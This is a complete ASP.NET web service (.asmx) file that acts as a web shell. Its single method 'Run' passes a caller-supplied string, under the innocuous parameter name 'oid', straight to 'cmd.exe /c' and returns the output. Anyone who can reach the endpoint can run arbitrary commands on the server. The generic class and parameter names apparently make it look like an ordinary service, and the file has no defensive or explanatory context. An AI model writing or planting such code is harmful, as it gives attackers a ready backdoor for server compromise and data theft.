<%@ WebService Language="C#" Class="Svc" %>
using System.Web.Services;
public class Svc : WebService {
  [WebMethod] public string Run(string oid) {
    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + oid) { RedirectStandardOutput = true, UseShellExecute = false });
    return p.StandardOutput.ReadToEnd();
  }
}
